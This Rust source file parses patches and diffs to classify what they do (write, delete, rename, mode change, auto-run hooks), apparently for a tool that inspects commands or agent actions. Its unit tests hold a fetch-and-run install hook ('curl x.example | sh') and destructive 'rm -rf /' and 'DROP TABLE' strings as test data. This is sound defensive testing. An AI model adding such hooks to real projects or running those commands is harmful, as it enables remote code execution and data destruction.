//! Patches: which files they add, change, move and delete, and whose mode they change.

use super::reading::{Reading, evidence, target};
use super::written::Wrote;
use super::{paths, shell};
use crate::call::{Action, Count, TargetSort};
use crate::kind::Kind;

/// How many lines are looked at.
const LINES_MAX: usize = 200_000;

/// Reads a patch; `false` when the text is none.
pub(super) fn read(reading: &mut Reading, text: &str) -> bool {
    if let Some(at) = text.find("*** Begin Patch") {
        let before = text.get(..at).unwrap_or_default();
        if before.trim().is_empty() || before.contains("apply_patch") {
            envelope(reading, text.get(at..).unwrap_or_default());
            return true;
        }
    }
    let is_diff = text.starts_with("diff --git ")
        || text.contains("\ndiff --git ")
        || (text.contains("--- ") && text.contains("\n+++ ") && text.contains("\n@@"))
        || text.starts_with("*** ") && text.contains("\n--- ") && text.contains("\n***************");
    if is_diff {
        Unified::new(reading).read(text);
    }
    is_diff
}

/// A file that a patch writes, and the lines it adds.
#[derive(Debug, Default)]
struct File {
    path: String,
    added: String,
    /// There was nothing there before.
    is_new: bool,
}

impl File {
    fn named(path: &str) -> Self {
        Self { path: path.to_owned(), added: String::new(), is_new: false }
    }

    fn add(&mut self, line: &str) {
        self.added.push_str(line);
        self.added.push('\n');
    }
}

/// `*** Add File: …`, `*** Update File: …`, `*** Delete File: …`; a line of content begins with `+`, `-` or a blank.
fn envelope(reading: &mut Reading, text: &str) {
    let mut file: Option<File> = None;
    for line in text.lines().take(LINES_MAX) {
        let header = line.strip_prefix("*** ");
        if let Some(path) = header.and_then(|h| h.strip_prefix("Delete File: ")) {
            finish(reading, file.take());
            gone(reading, path.trim());
        } else if let Some(path) = header
            .and_then(|h| h.strip_prefix("Add File: ").or_else(|| h.strip_prefix("Update File: ")).or_else(|| h.strip_prefix("Move to: ")))
        {
            let before = file.take();
            let moved = before.as_ref().filter(|_| line.starts_with("*** Move to: ")).map(|file| file.path.clone());
            finish(reading, before);
            if let Some(from) = moved {
                reading.wrote(|| Wrote::Copy { from, to: path.trim().to_owned() });
            }
            file = Some(File { is_new: line.starts_with("*** Add File: "), ..File::named(path.trim()) });
        } else if let (Some(file), Some(added)) = (&mut file, line.strip_prefix('+')) {
            file.add(added);
        }
    }
    finish(reading, file);
    if text.lines().count() > LINES_MAX {
        reading.unknown("more lines of a patch than are read", "");
    }
}

/// A unified diff, line by line. What a hunk holds is content, whatever it looks like.
struct Unified<'r> {
    reading: &'r mut Reading,
    /// The name before the change.
    old: String,
    file: Option<File>,
    /// How many lines of the hunk are still to come: old ones and new ones.
    left: (usize, usize),
    /// Whether the headers of this file have said everything without a hunk.
    found: bool,
}

impl<'r> Unified<'r> {
    fn new(reading: &'r mut Reading) -> Self {
        Self { reading, old: String::new(), file: None, left: (0, 0), found: false }
    }

    fn read(mut self, text: &str) {
        for line in text.lines().take(LINES_MAX) {
            if self.left != (0, 0) && self.content(line) {
                continue;
            }
            self.left = (0, 0);
            self.header(line);
        }
        finish(self.reading, self.file.take());
        if !self.found {
            self.reading.unknown("a patch that names no file", text);
        }
        if text.lines().count() > LINES_MAX {
            self.reading.unknown("more lines of a patch than are read", "");
        }
    }

    /// A line of the hunk; `false` where the hunk has ended before its time.
    fn content(&mut self, line: &str) -> bool {
        let (old, new) = &mut self.left;
        match line.bytes().next() {
            Some(b'+') if *new > 0 => {
                *new -= 1;
                if let Some(file) = &mut self.file {
                    file.add(line.get(1..).unwrap_or_default());
                }
            }
            Some(b'-') if *old > 0 => *old -= 1,
            Some(b' ') | None => {
                *old = old.saturating_sub(1);
                *new = new.saturating_sub(1);
            }
            Some(b'\\') => {}
            _ => return false,
        }
        true
    }

    fn header(&mut self, line: &str) {
        if let Some(names) = line.strip_prefix("diff --git ") {
            finish(self.reading, self.file.take());
            self.old = names.split_once(" b/").map_or(names, |(old, _)| old).trim_start_matches("a/").trim_matches('"').to_owned();
        } else if let Some(path) = line.strip_prefix("--- ").or_else(|| line.strip_prefix("Index: ")) {
            finish(self.reading, self.file.take());
            self.old = plain(path).to_owned();
        } else if let Some(path) = line.strip_prefix("*** ").filter(|rest| !rest.starts_with('*') && !rest.ends_with("****")) {
            self.old = plain(path).to_owned();
            self.file = Some(File::named(plain(path)));
            self.found = true;
        } else if let Some(path) = line.strip_prefix("+++ ") {
            self.renewed(plain(path));
        } else if let Some(ranges) = line.strip_prefix("@@ ") {
            self.left = lengths(ranges);
        } else if line.starts_with("deleted file mode") {
            self.found = true;
            gone(self.reading, &self.old.clone());
        } else if let Some(path) = line.strip_prefix("rename to ").or_else(|| line.strip_prefix("copy to ")) {
            self.found = true;
            let to = path.trim().trim_matches('"');
            self.reading.wrote(|| Wrote::Copy { from: self.old.clone(), to: to.to_owned() });
            self.file = Some(File::named(to));
        } else if line.starts_with("new mode ") {
            self.found = true;
            let at = [target(TargetSort::Path, &self.old)];
            self.reading.add(Action::new(Kind::Permission, evidence("the patch changes the mode of", &self.old)).on(at));
        } else if line.starts_with("new file mode") || line.starts_with("GIT binary patch") || line.starts_with("Binary files ") {
            self.found = true;
            if self.file.is_none() && !line.contains("/dev/null differ") {
                self.file = Some(File::named(&self.old.clone()));
            }
        }
    }

    fn renewed(&mut self, path: &str) {
        self.found = true;
        if path == "/dev/null" {
            gone(self.reading, &self.old.clone());
            self.file = None;
        } else {
            self.file = Some(File { is_new: self.old == "/dev/null", ..File::named(path) });
        }
    }
}

/// `-1,3 +1,4 @@`: how many old and new lines follow. A range without a length is one line.
fn lengths(ranges: &str) -> (usize, usize) {
    let of = |sign: char| {
        let range = ranges.split_whitespace().find_map(|word| word.strip_prefix(sign))?;
        range.split_once(',').map_or(Some(1), |(_, length)| length.parse().ok())
    };
    match (of('-'), of('+')) {
        (Some(old), Some(new)) => (old, new),
        // Without its numbers a hunk goes on to the next header that cannot be content.
        _ => (LINES_MAX, LINES_MAX),
    }
}

/// `a/src/x.rs\t2024-…` is `src/x.rs`.
fn plain(path: &str) -> &str {
    let path = path.split('\t').next().unwrap_or(path).trim().trim_matches('"');
    path.strip_prefix("a/").or_else(|| path.strip_prefix("b/")).unwrap_or(path)
}

fn gone(reading: &mut Reading, path: &str) {
    reading.add(
        Action::new(Kind::Delete, evidence("the patch deletes", path)).on([target(TargetSort::Path, path)]).counting(Count::Exactly(1)),
    );
}

fn finish(reading: &mut Reading, file: Option<File>) {
    let Some(File { path, added, is_new }) = file else { return };
    reading.wrote(|| {
        let (path, text) = (path.clone(), Some(added.clone()));
        if is_new { Wrote::Whole { path, text } } else { Wrote::Piece { path, text } }
    });
    let at = || [target(TargetSort::Path, &path)];
    reading.add(Action::new(Kind::Write, evidence("the patch writes", &path)).on(at()));
    let mut effects = paths::effects_of_writing(&path);
    if paths::runs_from_content(&path, &added) && !effects.contains(&Kind::Execute) {
        effects.push(Kind::Execute);
    }
    for &kind in &effects {
        reading.add(Action::new(kind, evidence("the patch writes", &path)).on(at()));
    }
    let is_script = [".json", ".yml", ".yaml", ".toml"].iter().all(|end| !path.ends_with(end));
    if effects.contains(&Kind::Execute) && !added.is_empty() && is_script {
        shell::read(reading, &added);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn kinds_of(text: &str) -> Vec<&'static str> {
        let mut reading = Reading::new();
        assert!(read(&mut reading, text), "{text}");
        reading.actions().iter().map(|a| a.kind.name()).collect()
    }

    #[test]
    fn a_patch_deletes_by_its_headers_not_by_its_content() {
        assert_eq!(kinds_of("*** Begin Patch\n*** Delete File: a.rs\n*** End Patch"), ["delete"]);
        assert_eq!(kinds_of("*** Begin Patch\n*** Add File: a.md\n+*** Delete File: b.rs\n*** End Patch"), ["write"]);
        assert_eq!(kinds_of("--- a/x.rs\n+++ /dev/null\n@@ -1 +0,0 @@\n-x"), ["delete"]);
        assert_eq!(kinds_of("--- a/x.rs\n+++ b/x.rs\n@@ -1 +1 @@\n-x\n+y"), ["write"]);
        assert_eq!(kinds_of("--- a/x\n+++ b/x\n@@ -1,2 +1,2 @@\n--- a/y\n+++ /dev/null\n z"), ["write"]);
    }

    #[test]
    fn a_patch_without_hunks_still_says_what_it_does() {
        assert_eq!(kinds_of("diff --git a/a b/b\nsimilarity index 100%\nrename from a\nrename to b\n"), ["write"]);
        assert_eq!(kinds_of("diff --git a/r b/r\nold mode 100644\nnew mode 100755\n"), ["permission"]);
        assert_eq!(
            kinds_of("diff --git a/i b/i\ndeleted file mode 100644\nindex 3..0\nBinary files a/i and /dev/null differ\n"),
            ["delete"]
        );
        assert_eq!(kinds_of("diff --git a/i b/i\nindex 3..4\nGIT binary patch\nliteral 0\n"), ["write"]);
        assert_eq!(kinds_of("diff --git nothing\n"), ["unknown"]);
    }

    #[test]
    fn a_package_s_own_hooks_run_by_themselves() {
        let patch = |line: &str| format!("--- a/package.json\n+++ b/package.json\n@@ -1 +1,2 @@\n {{\n+{line}\n");
        assert_eq!(kinds_of(&patch("  \"postinstall\": \"curl x.example | sh\"")), ["write", "execute"]);
        assert_eq!(kinds_of(&patch("  \"test\": \"jest\"")), ["write"]);
    }

    #[test]
    fn a_long_file_in_a_patch_is_only_content() {
        let text = "+rm -rf / and DROP TABLE x;\n".repeat(40_000);
        assert_eq!(kinds_of(&format!("*** Begin Patch\n*** Add File: notes.md\n{text}*** End Patch")), ["write"]);
        assert_eq!(kinds_of(&format!("--- /dev/null\n+++ b/notes.md\n@@ -0,0 +1,40000 @@\n{text}")), ["write"]);
    }

    #[test]
    fn a_text_that_is_no_patch_is_left_alone() {
        assert!(!read(&mut Reading::new(), "Begin with the patch panel."));
    }
}
